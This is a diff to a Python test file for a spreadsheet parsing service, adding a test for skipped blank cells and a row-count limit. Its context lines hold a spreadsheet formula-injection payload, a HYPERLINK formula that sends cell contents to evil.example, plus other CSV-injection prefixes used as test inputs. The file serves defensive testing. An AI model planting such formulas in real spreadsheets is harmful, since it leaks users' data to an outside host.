@@ -9,7 +9,7 @@ from openpyxl import Workbook, load_workbook
 
 from services.common.spreadsheet import from_csv_text, to_csv_text
 from services.organization.adapters.spreadsheet import SheetError, parse_sheet, sheet_bytes
-from services.organization.domain.sheet import COLUMNS
+from services.organization.domain.sheet import COLUMNS, MAX_DATA_ROWS
 
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
 TRICKY = [INJECTION, "+8613912345678", "-1", "@SUM(A1)", "\tx", "\rx", "'=1", "''=1", "'abc", "''", "'", "普通名称", ""]
@@ -73,3 +73,26 @@ def test_xlsx_numbers_are_marked_as_numbers():
     wb.save(out)
     _, rows = parse_sheet(out.getvalue(), ".xlsx")
     assert rows[0].numeric == frozenset({"id_card_number"})
+
+
+def test_xlsx_blank_rows_and_cells_beyond_the_header_are_skipped_and_too_many_rows_are_refused():
+    wb = Workbook()
+    wb.active.append(["record", "id_card_number"])
+    wb.active["A5"] = "member"
+    wb.active["B5"] = 610222198001011234
+    wb.active["A900000"] = None  # a formatted row far down: openpyxl fills the gap with empty rows
+    wb.active["A900000"].number_format = "@"
+    wb.active["XFD7"] = "stray"  # right of the header: no column, and rows are not read 16,384 wide
+    out = io.BytesIO()
+    wb.save(out)
+    _, rows = parse_sheet(out.getvalue(), ".xlsx")
+    assert [(r.number, r.numeric) for r in rows] == [(5, frozenset({"id_card_number"}))]
+    wb = Workbook(write_only=True)
+    ws = wb.create_sheet()
+    for _ in range(MAX_DATA_ROWS + 2):
+        ws.append(["unit"])
+    out = io.BytesIO()
+    wb.save(out)
+    with pytest.raises(SheetError) as refused:
+        parse_sheet(out.getvalue(), ".xlsx")
+    assert refused.value.reason == "TOO_MANY_ROWS"
